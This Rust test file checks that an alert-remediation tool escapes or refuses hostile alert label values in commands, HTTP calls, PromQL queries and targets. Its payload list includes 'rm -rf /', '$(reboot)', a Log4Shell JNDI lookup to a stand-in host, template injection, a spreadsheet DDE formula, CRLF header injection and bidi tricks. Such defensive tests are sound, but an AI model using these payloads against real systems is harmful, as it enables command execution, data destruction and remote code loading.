//! What an attacker may put into a label, and every place a label can go: refused by name, or one literal.

mod objects;

use std::time::Duration;

use promql_parser::parser::Expr;

use super::super::config::VerifyTemplate;
use super::super::policy::{plan, question, target};
use super::super::samples::{config, episode, group};
use super::super::share::AtMost;
use super::super::template::{Escape, Template};
use super::*;
use crate::model::{Episode, Plan, Reason};

/// Whether a value may go where any text may, as a whole argument, and to a place that names something.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Fits {
    Nowhere,
    /// A body or a URL, or an argument that does not begin with it.
    Inside,
    /// An argument and a tag of its own as well.
    Alone,
}
use Fits::{Alone, Inside, Nowhere};

fn hostile() -> Vec<(String, Fits)> {
    let mut values: Vec<(String, Fits)> = [
        ("; rm -rf /", Alone),
        ("$(reboot)", Alone),
        ("`reboot`", Alone),
        ("a && reboot | tee /etc/passwd > x", Alone),
        ("'; reboot; '", Alone),
        ("\"} or vector(1) or up{a=\"", Alone),
        ("\",\"command\":\"reboot\",\"x\":\"", Alone),
        ("a/../../admin?x=1&y=2#z", Alone),
        ("%2e%2e%2f", Alone),
        ("{{ 7*7 }}", Alone),
        ("{% for a in range(9) %}x{% endfor %}", Alone),
        ("{{ self.__class__ }}", Alone),
        ("${jndi:ldap://evil/a}", Alone),
        ("%s%n%x", Alone),
        ("=cmd|' /C calc'!A0", Alone),
        ("\u{440}\u{430}y\u{440}\u{430}l", Alone),
        ("\u{ff0d}\u{ff0d}force", Alone),
        ("--force", Inside),
        ("-rf", Inside),
        ("-", Inside),
        ("a\nb", Nowhere),
        ("a\r\nX-Evil: 1", Nowhere),
        ("a\0b", Nowhere),
        ("\u{1b}[2J", Nowhere),
        ("a\u{85}b", Nowhere),
        ("web\u{202e}08:1-bew", Nowhere),
        ("a\u{2066}b", Nowhere),
        ("a\u{2028}b", Nowhere),
    ]
    .map(|(text, fits)| (text.to_owned(), fits))
    .into();
    values.push(("x".repeat(1 << 20), Nowhere));
    values
}

fn evil(value: &str) -> Episode {
    episode(&[("alertname", "AppDown"), ("instance", "web:80"), ("evil", value)], 0)
}

fn compile(text: &str, escape: Escape) -> Template {
    Template::compile(text, escape).unwrap()
}

fn argument(text: &str) -> Template {
    compile(text, Escape::Argument)
}

fn planned(action: ActionTemplate, value: &str) -> Result<Plan, Reason> {
    let mut config = config();
    config.policies[0].steps[0].action = action;
    plan(&config, &config.policies[0], &evil(value)).map_err(|(reason, _)| reason)
}

/// The action of the only step; every refusal is of the same name.
fn action(action: ActionTemplate, value: &str) -> Option<Action> {
    match planned(action, value) {
        Ok(mut plan) => Some(plan.steps.remove(0).action),
        Err(reason) => {
            assert_eq!(reason, Reason::TemplateRefused);
            None
        }
    }
}

fn short(value: &str) -> &str {
    &value[..value.floor_char_boundary(60)]
}

#[test]
fn in_a_command_a_value_is_one_argument() {
    for (value, fits) in hostile() {
        for (template, may) in
            [("{{ labels.evil }}", fits == Alone), ("of={{ labels.evil }}", fits != Nowhere)]
        {
            let found = action(
                ActionTemplate::Command {
                    program: "/bin/restart".to_owned(),
                    arguments: ["first", template, "last"].map(argument).into(),
                    timeout: Duration::from_secs(1),
                },
                &value,
            );
            let expected = template.replace("{{ labels.evil }}", &value);
            let expected =
                may.then(|| ["/bin/restart", "first", &expected, "last"].map(str::to_owned).to_vec());
            let found = found.map(|action| match action {
                Action::Command(command) => command.argv,
                other => panic!("not a command: {other:?}"),
            });
            assert_eq!(found, expected, "{template}: {}", short(&value));
        }
    }
}

#[test]
fn in_a_call_a_value_is_one_part_of_the_path_and_one_text_of_the_body() {
    for (value, fits) in hostile() {
        let found = action(
            ActionTemplate::Http {
                method: "POST".to_owned(),
                url: compile("http://hooks:80/restart/{{ labels.evil }}?by={{ labels.evil }}", Escape::Url),
                bearer: None,
                signing_key: None,
                headers: vec![("X-Fixed".to_owned(), "{{ labels.evil }}".to_owned())],
                secret_headers: Vec::new(),
                body: Some(compile("{\"a\": \"{{ labels.evil }}\", \"b\": 1}", Escape::Json)),
                timeout: Duration::from_secs(1),
                retries: 0,
            },
            &value,
        );
        assert_eq!(found.is_some(), fits != Nowhere, "{}", short(&value));
        let Some(Action::Http(call)) = found else { continue };
        let url: url::Url = call.url.parse().unwrap();
        assert_eq!((url.scheme(), url.host_str(), url.fragment()), ("http", Some("hooks"), None));
        assert_eq!(url.path_segments().unwrap().count(), 2, "{url}");
        let pairs: Vec<_> = url.query_pairs().collect();
        assert_eq!(pairs, [("by".into(), value.as_str().into())]);
        let body: serde_json::Value = serde_json::from_str(&call.body).unwrap();
        assert_eq!(body, serde_json::json!({"a": value, "b": 1}));
        assert_eq!(call.headers[0].1, "{{ labels.evil }}", "headers are no templates");
    }
}

/// The values of all matchers of an expression.
fn matched(expr: &str) -> Vec<String> {
    let parsed = promql_parser::parser::parse(expr).unwrap_or_else(|error| panic!("{expr}: {error}"));
    let Expr::VectorSelector(selector) = parsed else { panic!("{expr} is more than it was") };
    selector.matchers.matchers.into_iter().map(|matcher| matcher.value).collect()
}

#[test]
fn in_an_expression_a_value_is_one_matcher() {
    let expr = || compile("up{evil=\"{{ labels.evil }}\"}", Escape::PromQl);
    for (value, fits) in hostile() {
        let mut config = config();
        let policy = &mut config.policies[0];
        policy.steps[0].verify = Some(VerifyTemplate {
            expr: Some(expr()),
            within: Duration::from_secs(1),
            lasts: Duration::ZERO,
        });
        let plan = plan(&config, &config.policies[0], &evil(&value));
        let verified = plan.map(|plan| plan.steps[0].verify.as_ref().map(|verify| matched(&verify.expr)));
        let expected = Some(vec![value.clone()]).filter(|_| fits != Nowhere);
        assert_eq!(verified.ok().flatten(), expected, "{}", short(&value));
    }
}

#[test]
fn in_a_question_a_value_is_one_matcher_or_nothing_is_asked() {
    let expr = || compile("up{evil=\"{{ labels.evil }}\"}", Escape::PromQl);
    for (value, fits) in hostile() {
        let mut config = config();
        let plan = plan(&config, &config.policies[0], &evil("x")).unwrap();
        let policy = &mut config.policies[0];
        let bare = policy.clone();
        for place in 0..5 {
            *policy = bare.clone();
            match place {
                0 => policy.evidence = vec![expr()],
                1 => policy.conditions = vec![expr()],
                2 => policy.group = Some(super::super::share::Group { members: expr(), ..group("1") }),
                3 => policy.group = Some(super::super::share::Group { healthy: expr(), ..group("1") }),
                _ => policy.at_most = Some(AtMost { share: "20%".parse().unwrap(), of: Some(expr()) }),
            }
            let asked = question(policy, &plan, 0, &evil(&value).alert).map_err(|(reason, _)| reason);
            let Ok(question) = asked else {
                assert_eq!(
                    (asked.unwrap_err(), fits),
                    (Reason::TemplateRefused, Nowhere),
                    "{}",
                    short(&value)
                );
                continue;
            };
            let group = question.group;
            let filled = match place {
                0 => question.evidence.first().cloned(),
                1 => question.conditions.first().cloned(),
                2 => group.map(|group| group.members),
                3 => group.map(|group| group.healthy),
                _ => question.at_most_of,
            };
            assert_eq!(matched(&filled.unwrap()), [value.as_str()], "{}", short(&value));
        }
    }
}

#[test]
fn a_hostile_target_is_refused_whatever_the_pattern() {
    for (value, fits) in hostile() {
        for (pattern, loose) in [(r"[a-z0-9.-]+:\d+", false), (r"(?s).*", true)] {
            let mut config = config();
            config.policies[0].target.label = "evil".into();
            config.policies[0].target.pattern = regex::Regex::new(&format!("^(?:{pattern})$")).unwrap();
            let episode = evil(&value);
            let found = target(&config, &config.policies[0].target, &episode.alert);
            let expected = if loose && fits != Nowhere { Ok(&*value) } else { Err(Reason::TargetRefused) };
            assert_eq!(found.map_err(|(reason, _)| reason), expected, "{pattern}: {}", short(&value));
        }
    }
}
